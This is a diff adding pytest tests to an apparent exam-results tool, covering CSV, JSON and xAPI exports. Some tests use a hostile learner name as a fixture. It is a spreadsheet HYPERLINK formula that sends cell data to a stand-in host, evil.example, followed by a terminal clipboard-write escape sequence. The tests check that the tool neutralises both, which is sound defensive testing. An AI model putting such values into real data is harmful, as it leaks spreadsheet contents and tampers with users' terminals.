@@ -8,6 +8,7 @@ import datetime as dt
 import io
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -322,12 +323,36 @@ def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
 
 
 def test_results_list(with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """Every attempt is listed with its score, result and whether it is signed."""
+    """Every attempt is listed with its exam, kind, score, result and whether it is signed."""
     code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_records))
     assert code == 0
     assert "Ada Lovelace" in out and "10/15 (66.7%)" in out and "failed" in out
     assert "Alan Turing" in out and "in progress" in out
     assert f"yes, key {KEY.key_id}" in out
+    [ada] = [line for line in out.splitlines() if "Ada Lovelace" in line]
+    assert "sign-off" in ada and "Container hardening" in ada
+    assert re.search(r"\bexam-[0-9a-f]{12}\b", ada)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_results_list_as_csv_and_json(with_records: Path, fmt: str,
+                                      capsys: pytest.CaptureFixture[str]) -> None:
+    """CSV and JSON listings read back with every column, the open attempt included."""
+    from tutor.exam.listing import COLUMNS
+
+    code, out, _ = run(capsys, "results", "list", "--format", fmt,
+                       "--data-dir", str(with_records))
+    rows = list(csv.DictReader(io.StringIO(out))) if fmt == "csv" else json.loads(out)
+    assert code == 0 and [tuple(row) for row in rows] == [COLUMNS] * 3
+    by_name = {row["learner_name"]: row for row in rows}
+    ada, alan = by_name["Ada Lovelace"], by_name["Alan Turing"]
+    assert ada["learner_id"] == "Ada Lovelace" and ada["kind"] == "sign-off"
+    assert ada["exam_id"].startswith("exam-") and ada["title"] == "Container hardening"
+    assert str(ada["correct"]) == "10" and str(ada["total"]) == "15"
+    assert ada["result"] == "failed" and ada["signed"] == KEY.key_id and ada["ended_at"]
+    assert alan["result"] == "in progress" and alan["signed"] == "no"
+    assert alan["exam_id"] == ada["exam_id"] and alan["kind"] == "sign-off"
+    assert alan["ended_at"] in ("", None) and alan["correct"] in ("", None)
 
 
 def test_export_json_then_verify(with_records: Path, tmp_path: Path,
@@ -403,6 +428,62 @@ def test_export_xapi_statements(with_records: Path, capsys: pytest.CaptureFixtur
     kinds = {s["object"]["definition"]["interactionType"] for s in answers}
     assert {"choice", "true-false", "other"} <= kinds
     assert len({s["id"] for s in statements}) == len(statements)
+
+
+def test_xapi_gives_the_correct_response_where_the_record_proves_it(
+        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A right answer, and the other of true or false, give correctResponsesPattern."""
+    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
+                       "--data-dir", str(with_records))
+    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
+    assert code == 0
+    for statement in answers:
+        definition, result = statement["object"]["definition"], statement["result"]
+        pattern = definition.get("correctResponsesPattern")
+        if definition["interactionType"] == "other":
+            assert pattern is None  # a fix-it question has many right Dockerfiles
+        elif result["success"]:
+            assert pattern == [result["response"]]
+        elif definition["interactionType"] == "true-false":
+            assert pattern == [{"true": "false", "false": "true"}[result["response"]]]
+    assert sum("correctResponsesPattern" in s["object"]["definition"] for s in answers) >= 10
+
+
+def test_xapi_pattern_comes_from_the_records_expected_answer(
+        with_records: Path, course: Course, capsys: pytest.CaptureFixture[str]) -> None:
+    """With "expected" in each question of the record, every choice and true-false
+    question states its right answer in xAPI's syntax: ids joined by [,]."""
+    store = ProgressStore.open(with_records, "tester")
+    questions = {q.id: q for q in course.questions}
+    for attempt in store.exams.all_attempts():
+        if attempt.record is None:
+            continue
+        for entry in attempt.record["questions"]:
+            question = questions[entry["id"]]
+            if question.type != "fix_it":
+                entry["expected"] = recorded_answer(question, right_rows(question))
+        store._db.execute("UPDATE exam_attempts SET record = ? WHERE id = ?",
+                          (json.dumps(attempt.record), attempt.id))
+    store._db.commit()
+    store.close()
+    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
+                       "--data-dir", str(with_records))
+    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
+    assert code == 0
+    for statement in answers:
+        question = questions[statement["object"]["id"].rsplit(":", 1)[1]]
+        pattern = statement["object"]["definition"].get("correctResponsesPattern")
+        if question.type == "fix_it":
+            assert pattern is None
+        elif question.type == "true_false":
+            assert pattern == [str(question.answer).lower()]
+        elif question.type == "spot_the_line":
+            assert pattern == ["[,]".join(f"line-{line}" for line in sorted(question.answer))]
+        else:
+            assert pattern == ["[,]".join(f"option-{index}"
+                                          for index in sorted(question.answer))]
+    patterns = [s["object"]["definition"].get("correctResponsesPattern") for s in answers]
+    assert any(pattern and "[,]" in pattern[0] for pattern in patterns)  # several right
 
 
 def test_new_key_is_private_and_never_replaced(tmp_path: Path,
@@ -527,6 +608,17 @@ def test_results_list_shows_control_characters_as_glyphs(
     code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_hostile_name))
     assert code == 0 and "\x1b" not in out and "\x07" not in out
     assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out
+
+
+def test_csv_listing_neutralises_formulas_and_controls(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """results list --format csv writes a formula name as text, with its controls visible."""
+    code, out, _ = run(capsys, "results", "list", "--format", "csv",
+                       "--data-dir", str(with_hostile_name))
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and "\x1b" not in out
+    assert row["learner_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
+    assert row["learner_id"] == row["learner_name"] and row["correct"] == "10"
 
 
 def test_csv_export_neutralises_formulas_and_controls(
